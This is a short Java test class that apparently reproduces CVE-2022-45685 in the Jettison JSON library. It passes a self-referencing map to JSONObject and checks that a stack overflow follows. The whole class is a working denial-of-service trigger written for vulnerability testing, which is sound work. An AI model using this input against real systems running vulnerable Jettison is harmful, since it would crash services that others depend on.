public class D_jettison_2022_45685 {
    public static String run() throws Throwable {
        Object r = H.timed(20000, 1 << 19, () -> {
            var m = new java.util.HashMap<String, Object>();
            m.put("a", m);
            return new org.codehaus.jettison.json.JSONObject(m).length();
        });
        return H.v(r instanceof StackOverflowError, H.cause(r));
    }
}
